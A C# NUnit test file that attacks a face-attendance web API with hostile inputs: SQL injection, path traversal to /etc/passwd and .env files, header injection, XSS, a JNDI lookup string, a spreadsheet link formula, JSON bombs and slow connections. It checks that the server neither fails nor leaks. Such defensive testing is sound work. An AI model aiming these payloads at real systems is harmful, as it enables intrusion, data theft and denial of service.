using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using FaceAttendance.TestKit;
using FaceAttendance.WebApi.OpenApi;
using Microsoft.AspNetCore.Routing;
using Microsoft.Extensions.DependencyInjection;
using Npgsql;

namespace FaceAttendance.WebApi.Tests.Access;

/// <summary>
/// What no honest client sends, put into every place of every route that takes something. The routes and their fields are read from the
/// running server, so that a new one is covered when it is made.
/// </summary>
public sealed partial class HostileInputTests
{
    private static readonly string[] Texts =
    [
        "'; DROP TABLE students; --",
        "x' OR '1'='1",
        "1; SELECT pg_sleep(20)",
        "$$||(SELECT version())||$$",
        "%' ESCAPE '\\",
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "siswaA\0.jpg",
        "a\r\nSet-Cookie: stolen=1\r\n\r\n<html>",
        "<script>alert(1)</script>",
        "{{7*7}}${jndi:ldap://host.invalid/x}",
        "=HYPERLINK(\"http://host.invalid\")",
        "\ud800",
        "1e999",
        "-1",
        new string('A', 20_000),
    ];

    private RunningServer _server = null!;

    [OneTimeSetUp]
    public async Task StartAsync()
    {
        _server = await RunningServer.StartAsync("EVENT_COOLDOWN_SECONDS=0");
        foreach (var id in new[] { "siswaA", "bystander" })
            await _server.PostAsync("/students", Form.With(("student_id", id), ("full_name", "Ayu Lestari")));
    }

    [OneTimeTearDown]
    public async Task StopAsync() => await _server.DisposeAsync();

    private static readonly string[] Places = ["path", "query", "form", "json"];

    [TestCaseSource(nameof(Places))]
    public async Task EveryRoute_HostileText_IsAnsweredWithoutAFaultOrALeak(string place)
    {
        var tried = 0;
        foreach (var route in Routes())
        {
            foreach (var text in Texts)
            {
                foreach (var request in RequestsOf(route, place, text))
                {
                    using (request)
                    {
                        var answer = await Answer.OfAsync(await _server.Http.SendAsync(request));
                        tried++;
                        AssertHarmless(answer,
                            $"{request.Method} {route.RoutePattern.RawText} " +
                            $"with {Uri.EscapeDataString(text.ToWellFormed())[..Math.Min(60, text.Length)]} in its {place}");
                    }
                }
            }
        }

        Assert.That(tried, Is.GreaterThan(50));
        await AssertNothingChangedAsync();
    }

    [TestCase("/api/v1/sites")]
    [TestCase("/api/v1/check-ins")]
    [TestCase("/mock/webhook")]
    public async Task EveryJsonRoute_Bomb_IsRefusedUnparsed(string path)
    {
        var nested = await PostJsonAsync(path, string.Concat(Enumerable.Repeat("{\"a\":", 50_000)));
        var wide = await PostJsonAsync(path, "{" + string.Join(',', Enumerable.Range(0, 150_000).Select(i => $"\"m{i}\":{i}")) + "}");
        var endless = await PostJsonAsync(path, "{\"name\":\"" + new string('x', 3_000_000) + "\"}");

        Assert.That((int)nested.Status, Is.InRange(400, 422));
        Assert.That(wide.Status, Is.EqualTo(HttpStatusCode.RequestEntityTooLarge));
        Assert.That(endless.Status, Is.EqualTo(HttpStatusCode.RequestEntityTooLarge));
    }

    [Test]
    public async Task Headers_TooManyOrTooLarge_AreRefusedByTheServerItself()
    {
        using var many = new HttpRequestMessage(HttpMethod.Get, "/health");
        for (var i = 0; i < 500; i++) many.Headers.Add($"X-{i}", "1");
        using var large = new HttpRequestMessage(HttpMethod.Get, "/health");
        large.Headers.Add("X-Large", new string('x', 100_000));

        var refused = new[] { await _server.Http.SendAsync(many), await _server.Http.SendAsync(large) };

        Assert.That(refused.Select(r => (int)r.StatusCode), Is.All.EqualTo(431));
    }

    [Test]
    public async Task Connection_HeadersThatNeverEnd_IsClosedByTheServer()
    {
        using var client = new TcpClient();
        await client.ConnectAsync(_server.Address.Host, _server.Address.Port);
        await client.GetStream()
            .WriteAsync(Encoding.ASCII.GetBytes($"GET /health HTTP/1.1\r\nHost: {_server.Address.Authority}\r\nX-Slow: "));

        using var patience = new CancellationTokenSource(TimeSpan.FromSeconds(90));
        var answer = await new StreamReader(client.GetStream()).ReadToEndAsync(patience.Token);

        Assert.That(answer, Is.Empty.Or.StartWith("HTTP/1.1 408"));
    }

    [Test]
    public async Task Connection_BodyThatTrickles_IsClosedByTheServer()
    {
        using var client = new TcpClient();
        await client.ConnectAsync(_server.Address.Host, _server.Address.Port);
        var stream = client.GetStream();
        await stream.WriteAsync(Encoding.ASCII.GetBytes(
            $"POST /recognize HTTP/1.1\r\nHost: {_server.Address.Authority}\r\nContent-Type: multipart/form-data; " +
            "boundary=edge\r\nContent-Length: 1000000\r\n\r\n--edge\r\n"));

        using var patience = new CancellationTokenSource(TimeSpan.FromSeconds(90));
        var answer = await new StreamReader(stream).ReadToEndAsync(patience.Token);

        Assert.That(answer, Is.Empty.Or.StartWith("HTTP/1.1 408").Or.StartWith("HTTP/1.1 400"));
    }

    [TestCase("TRACE")]
    [TestCase("PROPFIND")]
    public async Task AnyRoute_OddMethod_IsNoWayIn(string method)
    {
        using var request = new HttpRequestMessage(new HttpMethod(method), "/students");

        var answer = await _server.Http.SendAsync(request);

        Assert.That((int)answer.StatusCode, Is.InRange(400, 405));
    }

    [TestCase("/../../etc/passwd")]
    [TestCase("/swagger/../appsettings.json")]
    [TestCase("/swagger/..%2f..%2fappsettings.json")]
    [TestCase("/swagger/%2e%2e/%2e%2e/.env")]
    [TestCase("/.env")]
    [TestCase("/.data/postgres/PG_VERSION")]
    public async Task Files_OutsideWhatIsServed_AreNotFound(string path)
    {
        using var client = new TcpClient();
        await client.ConnectAsync(_server.Address.Host, _server.Address.Port);
        // By hand, for a client library would tidy the path up.
        await client.GetStream()
            .WriteAsync(Encoding.ASCII.GetBytes($"GET {path} HTTP/1.1\r\nHost: {_server.Address.Authority}\r\nConnection: close\r\n\r\n"));

        var answer = await new StreamReader(client.GetStream()).ReadToEndAsync();

        Assert.That(answer, Does.Match("^HTTP/1.1 4\\d\\d "));
    }

    [Test]
    public async Task Mass_FieldsThatNobodyMayGive_AreNotTaken()
    {
        await _server.PostAsync("/students", Form.With(
            ("student_id", "mass"), ("full_name", "Citra"), ("school_id", Guid.NewGuid().ToString()), ("embedding_count", "7"),
            ("last_enrolled_at", "2020-01-01"), ("role", "admin")));

        var stored = (await _server.GetAsync("/students/mass")).Json.GetProperty("student");

        Assert.That(stored.GetProperty("embedding_count").GetInt32(), Is.Zero);
        Assert.That(stored.GetProperty("last_enrolled_at").ValueKind, Is.EqualTo(System.Text.Json.JsonValueKind.Null));
    }

    private IEnumerable<RouteEndpoint> Routes() =>
        _server.Services.GetRequiredService<EndpointDataSource>().Endpoints.OfType<RouteEndpoint>()
        .Where(r => r.Metadata.GetMetadata<HttpMethodMetadata>() is not null && !IsSocket(r));

    private static bool IsSocket(RouteEndpoint route) => Regex.IsMatch(route.RoutePattern.RawText!, "^/?(ws|hubs)/");

    private static IEnumerable<HttpRequestMessage> RequestsOf(RouteEndpoint route, string place, string text)
    {
        var methods = route.Metadata.GetMetadata<HttpMethodMetadata>()!.HttpMethods;
        var queries = route.Metadata.GetOrderedMetadata<DescribedQuery>();
        var fields = route.Metadata.GetOrderedMetadata<DescribedField>();
        var body = route.Metadata.GetMetadata<DescribedJsonBody>();
        var escaped = Uri.EscapeDataString(text.ToWellFormed());
        foreach (var method in methods)
        {
            var raw = "/" + route.RoutePattern.RawText!.TrimStart('/');
            var path = Parameter()
                .Replace(raw, m => m.Value.Contains(":guid", StringComparison.Ordinal) ? Guid.Empty.ToString() : "siswaA");
            if (place == "path" && Parameter().IsMatch(raw) && text.Length < 2000)
            {
                yield return new(new(method), Parameter().Replace(raw, escaped))
                {
                    Content = fields.Count > 0 ? FormOf(fields, null, "") : JsonOf(body?.Example),
                };
            }
            if (place == "query" && queries.Count > 0 && text.Length < 2000)
            {
                foreach (var query in queries)
                    yield return new(new(method), $"{path}?{query.Name}={escaped}")
                    {
                        Content = fields.Count > 0 ? FormOf(fields, null, "") : null,
                    };
            }
            if (place == "form")
            {
                foreach (var field in fields.Where(f => !f.IsFile))
                    yield return new(new(method), path) { Content = FormOf(fields, field.Name, text) };
            }
            if (place == "json" && body is not null)
            {
                foreach (var changed in WithTextInEachPlace(body.Example, text)) yield return new(new(method), path) { Content = changed };
            }
        }
    }

    private static MultipartFormDataContent FormOf(IReadOnlyList<DescribedField> fields, string? hostile, string text)
    {
        var form = new MultipartFormDataContent();
        foreach (var field in fields)
        {
            if (field.IsFile) form.Add(new ByteArrayContent(DrawnFaces.EncodePng(1, 1, [1, 2, 3])), field.Name, "photo.png");
            else if (field.Name == hostile) form.Add(new StringContent(text.ToWellFormed(), Encoding.UTF8), field.Name);
            else if (field.IsRequired) form.Add(new StringContent(field.Example ?? "x"), field.Name);
        }
        return form;
    }

    private static StringContent? JsonOf(JsonNode? node) =>
        node is null ? null : new(node.ToJsonString(), Encoding.UTF8, "application/json");

    // A lone surrogate stands escaped in JSON, where it is legal to write and impossible to store.
    private static IEnumerable<StringContent> WithTextInEachPlace(JsonNode example, string text)
    {
        var count = Leaves(example.DeepClone()).Count();
        for (var i = 0; i < count; i++)
        {
            var changed = example.DeepClone();
            Leaves(changed).ElementAt(i)(JsonValue.Create("@@"));
            yield return new(
                changed.ToJsonString().Replace("\"@@\"", Quote(text), StringComparison.Ordinal), Encoding.UTF8, "application/json");
        }
    }

    private static string Quote(string text) =>
        '"' + string.Concat(text.Select(c => c is < ' ' or '"' or '\\' || char.IsSurrogate(c) ? $"\\u{(int)c:x4}" : c.ToString())) + '"';

    private static IEnumerable<Action<JsonNode?>> Leaves(JsonNode? node)
    {
        if (node is JsonObject members)
        {
            foreach (var name in members.Select(m => m.Key).ToList())
            {
                if (members[name] is JsonObject or JsonArray { Count: > 0 })
                {
                    foreach (var leaf in Leaves(members[name])) yield return leaf;
                }
                else yield return value => members[name] = value;
            }
        }
        else if (node is JsonArray items)
        {
            for (var i = 0; i < items.Count; i++)
            {
                var at = i;
                if (items[at] is JsonObject or JsonArray { Count: > 0 })
                {
                    foreach (var leaf in Leaves(items[at])) yield return leaf;
                }
                else yield return value => items[at] = value;
            }
        }
    }

    private static void AssertHarmless(Answer answer, string what)
    {
        Assert.That((int)answer.Status, Is.LessThan(500), $"{what}: {answer.Body}");
        Assert.That(answer.Body,
            Does.Not.Contain("Npgsql").And.Not.Contain("SqlState").And.Not.Contain("   at ").And.Not.Contain("root:x:0"), what);
        // Whoever is set up as the first administrator is logged in.
        Assert.That(answer.Headers.TryGetValues("Set-Cookie", out var cookies) ? cookies : [], Is.All.StartsWith("faceattendance="), what);
        if (answer.ContentType is { } type) Assert.That(type, Does.Not.StartWith("text/html"), what);
    }

    private async Task AssertNothingChangedAsync()
    {
        await using var connection = new NpgsqlConnection(_server.Database.ConnectionString);
        await connection.OpenAsync();
        await using var count =
            new NpgsqlCommand("SELECT count(*) FROM students WHERE id = 'bystander' AND full_name = 'Ayu Lestari'", connection);

        Assert.That(await count.ExecuteScalarAsync(), Is.EqualTo(1L));
        Assert.That((await _server.GetAsync("/health")).Status, Is.EqualTo(HttpStatusCode.OK));
    }

    private async Task<Answer> PostJsonAsync(string path, string body)
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, path)
        {
            Content = new StringContent(body, Encoding.UTF8, "application/json"),
        };
        // Waits for leave to send, so that the refusal is read and not lost with the connection.
        request.Headers.ExpectContinue = true;
        return await Answer.OfAsync(await _server.Http.SendAsync(request));
    }

    [GeneratedRegex(@"\{[^}]+\}")]
    private static partial Regex Parameter();
}

file static class WellFormedText
{
    /// <summary>The text as UTF-8 can carry it.</summary>
    public static string ToWellFormed(this string text) => Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(text));
}
